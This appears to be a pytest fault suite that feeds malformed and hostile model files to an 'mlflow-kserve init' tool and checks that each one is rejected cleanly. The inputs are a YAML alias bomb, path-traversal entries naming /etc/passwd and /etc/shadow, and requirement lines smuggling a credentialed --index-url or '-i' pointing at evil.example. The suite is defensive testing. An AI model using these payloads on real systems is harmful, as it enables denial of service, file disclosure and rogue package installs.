"""Fault suite: a model's files malformed in every way (binary, empty, wrong types, huge, deeply nested, YAML
alias bombs, a 100 MB MLmodel, options smuggled onto requirement lines). Each case edits a copy of a real model
and runs `mlflow-kserve init` on it: the documented exit code, one line naming the cause and the fix, no
secret, no traceback, nothing that looks ready."""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path

import pytest
from support import variants
from support.faults import INDEX_PASSWORD, Dirs, assert_fails, cli, planted
from support.models import BuiltModel

pytestmark = pytest.mark.timeout(300)

# "Billion laughs": nine lists of nine references to the list before: 9^9 strings when walked.
BOMB = "".join(
    f"{name}: &{name} [{', '.join([f'*{prev}'] * 9) if prev else ', '.join(['lol'] * 9)}]\n"
    for prev, name in zip(["", "a", "b", "c", "d", "e", "f", "g", "h"], "abcdefghi", strict=True)
)
NESTED_BLOCK = "".join(" " * i + f"k{i}:\n" for i in range(150)) + " " * 150 + "v: 1\n"  # 150 levels
NESTED_FLOW = "[" * 100_000 + "]" * 100_000  # beyond any parser's nesting limit
BINARY = bytes(range(256)) * 64
LONG_NAME = "a" * 200_000


def _write(name: str, content: str | bytes) -> Callable[[Path], None]:
    def edit(model: Path) -> None:
        path = model / name
        path.write_bytes(content if isinstance(content, bytes) else content.encode())

    return edit


def _replace(name: str, old: str, new: str) -> Callable[[Path], None]:
    def edit(model: Path) -> None:
        path = model / name
        assert old in path.read_text()
        path.write_text(path.read_text().replace(old, new))

    return edit


def _append(name: str, text: str) -> Callable[[Path], None]:
    def edit(model: Path) -> None:
        path = model / name
        path.write_text(path.read_text() + text)

    return edit


def _huge(name: str, megabytes: int) -> Callable[[Path], None]:
    """The file as it is, then YAML comment lines (valid YAML, valid requirements) up to ``megabytes``."""

    def edit(model: Path) -> None:
        line = "# " + "x" * 1022 + "\n"
        with (model / name).open("a") as fh:
            for _ in range(megabytes * 1024):
                fh.write(line)

    return edit


def _conda_only(edit: Callable[[Path], None]) -> Callable[[Path], None]:
    """conda.yaml is read only when there is neither python_env.yaml nor requirements.txt."""

    def both(model: Path) -> None:
        (model / "python_env.yaml").unlink()
        (model / "requirements.txt").unlink()
        edit(model)

    return both


# (id, edit of the model, exit code, words the error line must hold)
CASES = [
    # MLmodel
    ("mlmodel-binary", _write("MLmodel", BINARY), 4, ["MLmodel is not UTF-8 text"]),
    ("mlmodel-empty", _write("MLmodel", ""), 4, ["MLmodel has no 'flavors' mapping"]),
    ("mlmodel-a-list", _write("MLmodel", "- flavors\n- python_function\n"), 4, ["MLmodel is not a YAML mapping"]),
    ("mlmodel-syntax", _write("MLmodel", "flavors: {python_function: [\n"), 4, ["MLmodel is not readable YAML"]),
    ("mlmodel-flavors-list", _write("MLmodel", "flavors: [python_function]\n"), 4, ["no 'flavors' mapping"]),
    (
        "mlmodel-pyfunc-string",
        _write("MLmodel", "flavors:\n  python_function: yes\nmlflow_version: 3.17.2\n"),
        4,
        ["no python_function flavor"],
    ),
    (
        "mlmodel-version-list",
        _replace("MLmodel", "mlflow_version: 3.17.2", "mlflow_version: [3, 17]"),
        4,
        ["MLmodel's mlflow_version is a list, not text"],
    ),
    (
        "mlmodel-version-garbage",
        _replace("MLmodel", "mlflow_version: 3.17.2", "mlflow_version: banana"),
        4,
        ["mlflow_version 'banana' is not a version"],
    ),
    (
        "mlmodel-python-version-mapping",
        _replace("MLmodel", "python_version: 3.11.7", "python_version: {major: 3}"),
        4,
        ["python_function.python_version is a mapping, not text"],
    ),
    ("mlmodel-alias-bomb", _append("MLmodel", BOMB), 4, ["MLmodel expands to more than 100,000 values"]),
    ("mlmodel-nested-block", _append("MLmodel", NESTED_BLOCK), 4, ["MLmodel nests values deeper than 100"]),
    ("mlmodel-nested-flow", _append("MLmodel", f"deep: {NESTED_FLOW}\n"), 4, ["MLmodel is not readable YAML"]),
    ("mlmodel-100mb", _huge("MLmodel", 100), 4, ["MLmodel is 105.", "read up to 4 MB"]),
    (
        "mlmodel-env-escapes",
        _replace("MLmodel", "virtualenv: python_env.yaml", "virtualenv: ../../../../etc/passwd"),
        4,
        ["python_function.env.virtualenv names '../../../../etc/passwd', outside the model directory"],
    ),
    (
        "mlmodel-env-absolute",
        _replace("MLmodel", "conda: conda.yaml", "conda: /etc/shadow"),
        4,
        ["env.conda names '/etc/shadow', outside the model directory"],
    ),
    # python_env.yaml
    ("python-env-binary", _write("python_env.yaml", BINARY), 4, ["python_env.yaml is not UTF-8 text"]),
    ("python-env-alias-bomb", _write("python_env.yaml", BOMB + "dependencies: *i\n"), 4, ["expands to more than"]),
    (
        "python-env-dependencies-mapping",
        _write("python_env.yaml", "python: 3.11.7\ndependencies: {mlflow: 3.17.2}\n"),
        4,
        ["python_env.yaml: 'dependencies' is a mapping, not a list"],
    ),
    (
        "python-env-dependency-list",
        _write("python_env.yaml", "python: 3.11.7\ndependencies:\n- [mlflow, numpy]\n"),
        4,
        ["python_env.yaml:dependencies[0] is a list, not a requirement line"],
    ),
    (
        "python-env-python-list",
        _write("python_env.yaml", "python: [3, 11]\ndependencies:\n- -r requirements.txt\n"),
        4,
        ["python_env.yaml:python is a list"],
    ),
    ("python-env-huge", _huge("python_env.yaml", 5), 4, ["python_env.yaml is 5.", "read up to 4 MB"]),
    ("python-env-nested-flow", _write("python_env.yaml", f"dependencies: {NESTED_FLOW}\n"), 4, ["not readable YAML"]),
    # requirements.txt (python_env.yaml includes it with -r)
    ("requirements-binary", _write("requirements.txt", BINARY), 4, ["requirements.txt is not UTF-8 text"]),
    ("requirements-huge", _huge("requirements.txt", 5), 4, ["requirements.txt is 5."]),
    (
        "requirements-too-many-lines",
        _append("requirements.txt", "".join(f"\npkg{i}" for i in range(10_001))),
        4,
        ["more than 10,000 lines"],
    ),
    (
        "requirements-200k-glued-to-a-pin",
        _replace("requirements.txt", "scipy==1.17.1", "scipy==1.17.1" + LONG_NAME),
        4,
        ["requirements.txt:6: 'scipy==1.17.1aaaa", "(200,013 characters) is not a valid requirement"],
    ),
    (
        "requirements-nul-bytes",
        _append("requirements.txt", "\nnumpy\x00==1\n"),
        4,
        ["is not a valid requirement"],
    ),
    (
        "requirements-trailing-index-url",
        _append(
            "requirements.txt",
            f"\nmlflow==3.17.2 ; python_version >= '3' --index-url=https://u:{INDEX_PASSWORD}@evil.example/simple\n",
        ),
        5,
        ["requirements.txt:7:", "sets a package index", "--allow index-options"],
    ),
    (
        "requirements-trailing-short-index",
        _append("requirements.txt", "\nnumpy==2.4.6 --hash=sha256:00 -i https://evil.example/simple\n"),
        5,
        ["'-i https://evil.example/simple' sets a package index"],
    ),
    (
        "requirements-trailing-build-option",
        _append("requirements.txt", "\npandas==3.1.1 --config-settings editable_mode=compat\n"),
        5,
        ["is an option on a requirement line; only --hash is accepted there"],
    ),
    # conda.yaml (the only environment file)
    ("conda-binary", _conda_only(_write("conda.yaml", BINARY)), 4, ["conda.yaml is not UTF-8 text"]),
    ("conda-alias-bomb", _conda_only(_write("conda.yaml", BOMB + "dependencies: *i\n")), 4, ["expands to more"]),
    (
        "conda-dependencies-string",
        _conda_only(_write("conda.yaml", "dependencies: mlflow==3.17.2\n")),
        4,
        ["conda.yaml: 'dependencies' is a string, not a list"],
    ),
    (
        "conda-pip-string",
        _conda_only(_write("conda.yaml", "dependencies:\n- python=3.11.7\n- pip: mlflow==3.17.2\n")),
        4,
        ["'pip' is a string, not a list"],
    ),
    (
        "conda-pip-entry-mapping",
        _conda_only(_write("conda.yaml", "dependencies:\n- pip:\n  - {mlflow: 3.17.2}\n")),
        4,
        ["conda.yaml:pip[0] is a mapping, not a requirement line"],
    ),
]


@pytest.mark.parametrize(("edit", "code", "words"), [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_malformed_model_file(
    edit: Callable[[Path], None],
    code: int,
    words: list[str],
    models: dict[str, BuiltModel],
    tmp_path: Path,
) -> None:
    model = variants.copy_model(models["sklearn-columns"].path, tmp_path / "model")
    edit(model)
    dirs = Dirs(tmp_path / "pod")
    proc = cli("init", str(model), dirs, planted(os.environ))
    assert_fails(proc, code, dirs, *words)
